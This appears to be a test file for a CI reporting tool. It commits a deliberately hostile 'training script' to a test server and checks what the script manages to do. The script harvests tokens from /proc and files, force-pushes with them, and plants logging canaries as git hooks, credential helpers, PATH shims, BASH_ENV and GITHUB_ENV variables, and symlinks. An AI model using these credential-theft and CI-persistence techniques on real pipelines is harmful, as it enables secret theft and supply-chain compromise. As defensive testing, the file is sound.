"""A training script that looks for tokens, and leaves behind whatever a later job might run or believe.

Everything it leaves only writes down that it was run, by which job, and goes on as if nothing was.
"""

from __future__ import annotations

from pathlib import Path

from git_server import TOKEN, Server

SCRIPT = r"""
import os, pathlib, re, shutil, subprocess, sys, urllib.request
import xreport

with xreport.init("demo", name="trap", params={"lr": 0.1}) as run:
    run.log({"val/acc": 0.5}, step=1)

LOOT, TOKEN = pathlib.Path("@LOOT@"), rb"@TOKEN@[0-9a-f]+"
home, work = pathlib.Path.home(), pathlib.Path.cwd()

# -- what it sees: of all processes that it may read, and in all files of its machine
seen = {}
for process in pathlib.Path("/proc").glob("[0-9]*"):
    for part in ("environ", "cmdline"):
        try:
            seen[f"{process}/{part}"] = (process / part).read_bytes()
        except OSError:
            pass
for file in work.parent.rglob("*"):
    if file.is_file() and file.stat().st_size < 2**24:
        seen[str(file)] = file.read_bytes()
found = {token.decode() for text in seen.values() for token in re.findall(TOKEN, text)}
(LOOT / "tokens").write_text("\n".join(sorted(found)))
(LOOT / "looked").write_text("\n".join(seen))

# -- what it may do with it
git_env = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
server = os.environ.get("GITHUB_SERVER_URL") or os.environ["CI_SERVER_URL"]
subprocess.run(["git", "-c", "user.name=x", "-c", "user.email=x@localhost", "commit", "--allow-empty", "-qm", "x"])
for token in [*found, ""]:
    address = server.replace("://", f"://x:{token}@") + "/@PROJECT@.git"
    for branch in ("main", "xreport-runs", "another"):
        subprocess.run(["git", "push", "--force", address, f"HEAD:refs/heads/{branch}"], env=git_env)

# -- what it leaves behind
planted = []
tell = f'echo "$1 by ${{GITHUB_JOB:-$CI_JOB_NAME}}" >> {LOOT}/fired'

def program(file, what, then="exit 0"):
    planted.append(what)
    file.parent.mkdir(parents=True, exist_ok=True)
    if file.is_symlink() or file.exists():
        file.unlink()
    file.write_text(f'#!/bin/sh\n{tell.replace("$1", what)}\n{then}\n')
    file.chmod(0o755)
    return str(file)

HOOKS = ("pre-push", "post-checkout", "reference-transaction", "post-index-change", "pre-commit", "post-merge")
for hook in HOOKS:
    program(work / ".git/hooks" / hook, f"hook {hook}")
    program(home / "hooks" / hook, f"hook of the home {hook}")
    program(home / "template/hooks" / hook, f"hook of the template {hook}")
settings = {
    "core.hooksPath": str(home / "hooks"),
    "init.templateDir": str(home / "template"),
    "core.fsmonitor": program(home / "fsmonitor", "fsmonitor"),
    "credential.helper": program(home / "helper", "credential helper"),
    "filter.trap.clean": program(home / "clean", "clean filter", "cat"),
    "filter.trap.smudge": program(home / "smudge", "smudge filter", "cat"),
    "core.askPass": program(home / "askpass", "askpass"),
    "url.http://127.0.0.1:9/.insteadOf": server,
}
for scope in ("--global", "--local"):
    for key, value in settings.items():
        subprocess.run(["git", "config", scope, key, value], check=True)
tools = pathlib.Path(shutil.which("xreport")).parent
for name in ("git", "tar", "curl", "find", "xreport", "python"):
    real = shutil.which(name)
    if pathlib.Path(real).parent == tools:
        shutil.copy(real, tools / f"real-{name}")
        real = tools / f"real-{name}"
    for folder in (tools, home / "path"):
        program(folder / name, f"{name} on PATH", f'exec "{real}" "$@"')
startup = program(home / "startup", "BASH_ENV", ":")
for name in (".bashrc", ".bash_profile", ".profile"):
    program(home / name, f"{name} of the home", ":")
variables = {"BASH_ENV": startup, "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.hooksPath",
           "GIT_CONFIG_VALUE_0": str(home / "hooks"), "RUNS_REMOTE": "http://127.0.0.1:9/x.git", "RUNS_BRANCH": "main"}
lines = "".join(f"{key}={value}\n" for key, value in variables.items())
if "GITHUB_ENV" in os.environ:
    open(os.environ["GITHUB_ENV"], "a").write(lines)
    open(os.environ["GITHUB_PATH"], "a").write(f"{home}/path\n")
else:
    urllib.request.urlopen(urllib.request.Request(
        f"{os.environ['CI_API_V4_URL']}/jobs/{os.environ['CI_JOB_ID']}/artifacts?artifact_type=dotenv",
        lines.encode(), {"JOB-TOKEN": os.environ["CI_JOB_TOKEN"]}))

# -- among the journals, and in the configuration of the report
runs = work / "runs"
(home / "outside").write_text("outside")
(runs / "link.jsonl").symlink_to(home / "outside")
(runs / "environ").symlink_to("/proc/self/environ")
(runs / "up").symlink_to("../..")
(runs / ".gitattributes").write_text("* filter=trap text eol=crlf\n")
(runs / ".gitmodules").write_text("[submodule \"x\"]\n\tpath = x\n\turl = ./x\n")
shutil.copytree(work / ".git", runs / ".git")
shutil.copytree(work / ".git", runs / "nested" / ".git")
(work / "xreport.toml").write_text('title = "forged by the training"\nsources = ["runs", ".."]\n')
(work / "hooks.py").write_text(f"open('{LOOT}/fired', 'a').write('hook of mkdocs.yml by build\\n')\n")
(work / "mkdocs.yml").write_text("site_name: forged by the training\nhooks: [hooks.py]\n")
(LOOT / "planted").write_text("\n".join([*planted, "hook of mkdocs.yml"]))
"""


def commit_traps(server: Server) -> Path:
    """Commit the script as the one that trains; return the folder where it, and what it leaves, write things down."""
    loot = server.folder / "loot"
    loot.mkdir()
    script = SCRIPT.replace("@LOOT@", str(loot)).replace("@TOKEN@", TOKEN).replace("@PROJECT@", "somebody/project")
    server.commit({"train.py": script, "xreport.toml": 'title = "as committed"\n'})
    return loot


def tokens_seen(server: Server, loot: Path) -> set[str]:
    """Return the tokens that the script has found, of this server: others may be tested at the same time."""
    return set((loot / "tokens").read_text().split()) & set(server.rights)


def planted(loot: Path) -> list[str]:
    """Return what the script has left behind to be run."""
    return sorted(set((loot / "planted").read_text().splitlines()))


def fired(loot: Path) -> set[str]:
    """Return what was run of all that was left behind, and by which job, leaving out the job that trains."""
    file = loot / "fired"
    lines = file.read_text().splitlines() if file.exists() else []
    return {line for line in lines if not line.endswith(" by train")}
